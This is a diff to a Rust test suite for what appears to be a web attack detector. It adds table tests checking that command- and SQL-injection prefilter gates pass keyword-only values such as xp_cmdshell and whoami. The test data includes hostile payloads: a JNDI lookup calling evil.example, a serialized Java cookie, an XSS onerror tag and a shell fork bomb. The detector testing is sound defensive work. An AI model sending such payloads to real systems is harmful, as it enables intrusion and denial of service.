@@ -490,6 +490,16 @@ const GATE_ATTACKS: &[&str] = &[
     "GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n",
     "GET / HTTP/1.1\r\nHost: a.example\r\nCookie: s=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7\r\n\r\n",
     "POST /api/users HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/json\r\nContent-Length: 49\r\n\r\n{\"bio\":\"<img src=x onerror=alert(1)>\",\"n\":\"`id`\"}",
+    // Words only: what the word gates (`gate::sqli_words`, `gate::cmdi_words`) must let through.
+    "GET /admin?cmd=visudo HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /admin?cmd=WHOAMI HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /admin?cmd=nohup+ifconfig HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /admin?cmd=ansible-playbook+site HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /list?t=INFORMATION_SCHEMA HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /list?p=xp_cmdshell HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /list?id=1+or+true HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "GET /list/INFORMATION_SCHEMA/tables HTTP/1.1\r\nHost: a.example\r\n\r\n",
+    "POST /api/run HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/json\r\nContent-Length: 44\r\n\r\n{\"cmd\":\"visudo\",\"t\":\"OPENROWSET\",\"n\":\"1\"}",
 ];
 
 /// Every hit of the score corpus (CRS attack rows when present, the benign
@@ -531,6 +541,20 @@ fn gates_keep_every_hit() {
             "the corpus makes {class:?} hits"
         );
     }
+    // Hits on values of words only, which the word gates must not stop.
+    for payload in [
+        "\"visudo\"",
+        "\"WHOAMI\"",
+        "\"nohup ifconfig\"",
+        "\"INFORMATION_SCHEMA\"",
+        "\"xp_cmdshell\"",
+        "\"OPENROWSET\"",
+    ] {
+        assert!(
+            ungated.iter().any(|h| h.ends_with(payload)),
+            "the corpus makes a hit on {payload}"
+        );
+    }
     assert_eq!(gated.len(), ungated.len());
     for (g, u) in gated.iter().zip(&ungated) {
         assert_eq!(g, u);
@@ -541,27 +565,28 @@ fn gates_keep_every_hit() {
 #[test]
 fn gates_table() {
     use super::gate::Shape;
-    // (value, may_xss, may_cmdi, may_java_base64)
-    let table: &[(&str, bool, bool, bool)] = &[
-        ("130", false, false, false),
-        ("1, 2 - 3_4+5", true, false, false),
-        ("visudo", false, true, false),
-        (":(){ :|:& };:", true, true, false),
-        ("-->", true, true, false),
-        ("+ADw-script+AD4-", true, true, true),
-        ("\\xbcscript\\xbe", true, true, true),
-        ("\u{bc}script\u{be}", true, true, false),
-        ("door blue", false, true, false),
-        ("deliver to the door", false, true, false),
-        ("rO0ABXNy", false, true, true),
-        ("x ABC", false, true, true),
-        ("Y29tbW9u", false, true, true),
+    // (value, may_xss, may_cmdi, may_java_base64, may_sqli)
+    let table: &[(&str, bool, bool, bool, bool)] = &[
+        ("130", false, false, false, false),
+        ("1, 2 - 3_4+5", true, false, false, false),
+        ("visudo", false, true, false, false),
+        (":(){ :|:& };:", true, true, false, true),
+        ("-->", true, true, false, true),
+        ("+ADw-script+AD4-", true, false, true, false),
+        ("\\xbcscript\\xbe", true, true, true, true),
+        ("\u{bc}script\u{be}", true, true, false, true),
+        ("door blue", false, false, false, false),
+        ("deliver to the door", false, false, false, false),
+        ("rO0ABXNy", false, false, true, false),
+        ("x ABC", false, false, true, false),
+        ("Y29tbW9u", false, false, true, false),
     ];
-    for &(v, xss_, cmdi_, b64) in table {
+    for &(v, xss_, cmdi_, b64, sqli_) in table {
         let s = Shape::of(v);
         assert_eq!(s.may_xss(), xss_, "xss gate {v:?}");
-        assert_eq!(s.may_cmdi(), cmdi_, "cmdi gate {v:?}");
+        assert_eq!(s.may_cmdi(v), cmdi_, "cmdi gate {v:?}");
         assert_eq!(s.may_java_base64(), b64, "java_base64 gate {v:?}");
+        assert_eq!(s.may_sqli(v), sqli_, "sqli gate {v:?}");
         if !s.may_java_base64() {
             assert_eq!(
                 rules::java_base64(v),
@@ -572,11 +597,94 @@ fn gates_table() {
         if !s.may_xss() {
             assert_eq!(xss::detect(v), None, "xss fires past its gate: {v:?}");
         }
-        if !s.may_cmdi() {
+        if !s.may_cmdi(v) {
             assert_eq!(cmdi::detect(v), None, "cmdi fires past its gate: {v:?}");
+        }
+        if !s.may_sqli(v) {
+            let mut scratch = sqli::Scratch::default();
+            assert_eq!(
+                sqli::detect(v, &mut scratch),
+                None,
+                "sqli fires past its gate: {v:?}"
+            );
         }
     }
     assert!(xss::detect("-->").is_some());
     assert!(cmdi::detect(":(){ :|:& };:").is_some());
     assert!(rules::java_base64("rO0ABXNy").is_some());
+}
+
+/// The word gates on values of words only (no byte beyond letters, digits
+/// and ` -_,@+`): which pass, and that a detector fires on none they stop.
+/// Every word that fires alone must pass its gate.
+#[test]
+fn word_gates_table() {
+    use super::gate::Shape;
+    // (value, may_cmdi, may_sqli)
+    let table: &[(&str, bool, bool)] = &[
+        // Single words that fire today.
+        ("visudo", true, false),
+        ("WHOAMI", true, false),
+        ("ifconfig", true, false),
+        ("  @whoami", true, false),
+        ("ansible-playbook site", true, false),
+        ("time sh -c whoami", true, false),
+        ("nohup ifconfig", true, false),
+        ("if exist boot ini", true, false),
+        ("x POWERSHELL -c whoami", true, false),
+        ("INFORMATION_SCHEMA", false, true),
+        ("xp_cmdshell", false, true),
+        ("OPENROWSET", false, true),
+        ("pg_sleep 5", false, false),
+        // Keywords and names make SQL possible.
+        ("1 or true", false, true),
+        ("select a plan", false, true),
+        ("Null", false, true),
+        ("a, @@version", false, true),
+        ("x -- y", false, true),
+        ("1_union", false, false),
+        // Ordinary words.
+        ("door blue 17", false, false),
+        ("deliver to the door 42", false, false),
+        ("Dublin", false, false),
+        ("SKU-104", false, false),
+        ("bob@example", false, false),
+        ("4f2a9c", false, false),
+        ("550e8400-e29b-41d4-a716-446655440000", false, false),
+        ("2026-11-22", false, false),
+        ("cat", true, false),
+        ("the cat sat", false, false),
+        ("1 2 3, 4", false, false),
+    ];
+    let mut scratch = sqli::Scratch::default();
+    for &(v, cmdi_, sqli_) in table {
+        let s = Shape::of(v);
+        assert!(!s.special, "{v:?} is words only");
+        assert_eq!(s.may_cmdi(v), cmdi_, "cmdi word gate {v:?}");
+        assert_eq!(s.may_sqli(v), sqli_, "sqli word gate {v:?}");
+        if !cmdi_ {
+            assert_eq!(cmdi::detect(v), None, "cmdi fires past its gate: {v:?}");
+        }
+        if !sqli_ {
+            assert_eq!(
+                sqli::detect(v, &mut scratch),
+                None,
+                "sqli fires past its gate: {v:?}"
+            );
+        }
+    }
+    for fires in [
+        "visudo",
+        "WHOAMI",
+        "nohup ifconfig",
+        "ansible-playbook site",
+    ] {
+        assert!(cmdi::detect(fires).is_some(), "{fires:?} fires");
+    }
+    for fires in ["INFORMATION_SCHEMA", "xp_cmdshell", "OPENROWSET"] {
+        assert!(
+            sqli::detect(fires, &mut scratch).is_some(),
+            "{fires:?} fires"
+        );
+    }
 }
